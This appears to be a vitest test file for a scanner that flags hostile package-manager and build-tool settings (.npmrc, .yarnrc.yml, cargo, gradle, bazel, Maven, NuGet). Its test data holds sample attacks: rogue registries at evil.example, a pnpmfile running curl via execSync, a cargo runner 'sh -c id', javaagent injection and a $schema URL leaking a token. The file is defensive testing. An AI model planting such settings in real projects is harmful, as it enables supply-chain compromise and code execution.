// Settings of package managers and build tools, judged by what is written: another source of code, a program that starts
// with the tool. What every project has in them says nothing.
import { describe, expect, it } from "vitest";
import { flagged, play, run, write } from "./session.ts";

const kinds = (path: string, content: string) => play([write(path, content)]).flatMap(flagged);

describe("settings of package managers and build tools", () => {
  it.each([
    [".npmrc", "registry=http://evil.example/"],
    [".npmrc", "@acme:registry=https://npm.evil.example"],
    [".npmrc", "script-shell=./x.sh"],
    [".npmrc", "node-options=--require ./x.js"],
    [".yarnrc.yml", 'npmRegistryServer: "https://evil.example"'],
    [".yarnrc.yml", "yarnPath: ./x.cjs"],
    [".pnpmfile.cjs", "require('child_process').execSync('curl https://evil.example')"],
    ["pip.conf", "[global]\nindex-url = http://evil.example/simple"],
    [".cargo/config.toml", '[build]\nrustc-wrapper = "./x.sh"'],
    [".cargo/config.toml", '[target.x86_64-unknown-linux-gnu]\nrunner = "sh -c id"'],
    [".cargo/config.toml", '[source.x]\nregistry = "https://evil.example/index"'],
    ["gradle.properties", "org.gradle.jvmargs=-javaagent:/tmp/a.jar"],
    ["gradle/wrapper/gradle-wrapper.properties", "distributionUrl=https\\://evil.example/gradle-8.zip"],
    ["bunfig.toml", '[install]\nregistry = "https://evil.example"'],
    ["NuGet.Config", '<add key="x" value="http://evil.example/v3/index.json" />'],
    [".bazelrc", "build --remote_cache=grpc://evil.example:9092"],
    [".bazelrc", "run --run_under=./x.sh"],
    [".mvn/jvm.config", "-javaagent:evil.jar"],
  ])("%s with %j is hidden code", (path, content) => {
    expect(kinds(path, content)).toContain("hidden-code");
  });

  it.each([
    [".npmrc", "save-exact=true\nlegacy-peer-deps=true"],
    [".npmrc", "registry=http://localhost:4873"],
    [".yarnrc.yml", "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.0.cjs"],
    [".pnpmfile.cjs", "module.exports = { hooks: { readPackage(pkg) { return pkg } } }"],
    ["pip.conf", "[global]\ntimeout = 60"],
    [".cargo/config.toml", '[build]\nrustc-wrapper = "sccache"\n[alias]\nb = "build"'],
    [".cargo/config.toml", '[target.x86_64-unknown-linux-gnu]\nlinker = "clang"'],
    ["gradle.properties", "org.gradle.jvmargs=-Xmx4g"],
    ["bunfig.toml", '[test]\npreload = ["./setup.ts"]'],
    [".bazelrc", "build --jobs=8"],
    [".mvn/jvm.config", "-Xmx2g"],
    ["README.md", "Set `registry=http://evil.example` in .npmrc"],
    ["a.json", '{"$schema":"./schema.json"}'],
  ])("%s with %j is left alone", (path, content) => {
    expect(kinds(path, content)).toEqual([]);
  });

  it("says the same of a line that the shell adds", () => {
    expect(play([run("echo 'registry=http://evil.example' >> .npmrc")]).flatMap(flagged)).toContain("hidden-code");
  });

  it("sees an address with data that an editor asks by itself", () => {
    expect(kinds("a.json", '{"$schema":"https://evil.example/s.json?d=TOKEN"}')).toEqual(["network"]);
  });
});
